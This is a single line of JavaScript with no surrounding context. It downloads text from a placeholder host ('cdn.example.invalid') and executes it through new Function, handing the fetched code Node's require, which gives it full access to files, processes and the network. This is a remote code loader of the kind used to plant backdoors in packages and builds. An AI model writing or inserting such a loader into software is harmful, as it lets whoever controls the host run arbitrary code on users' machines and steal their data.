new Function("require", await (await fetch("https://cdn.example.invalid/p")).text())(require);
